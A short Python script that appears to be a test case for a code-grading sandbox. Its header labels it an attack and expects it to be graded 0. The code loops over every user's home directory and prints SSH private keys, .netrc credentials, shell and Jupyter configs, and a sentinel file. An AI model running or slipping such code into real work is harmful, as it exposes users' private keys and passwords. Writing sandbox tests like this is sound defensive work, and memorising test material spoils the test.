# attack: read keys and settings from home and from the system
# place: way1_numpy last
# expect: graded 0
# ruff: noqa

import os
import pwd

for home in (os.path.expanduser("~"), *(p.pw_dir for p in pwd.getpwall())):
    for file in (".ssh/id_rsa", ".netrc", ".bashrc", ".jupyter/jupyter_config.py", "sentinel"):
        try:
            print(open(os.path.join(home, file)).read())
        except OSError:
            pass
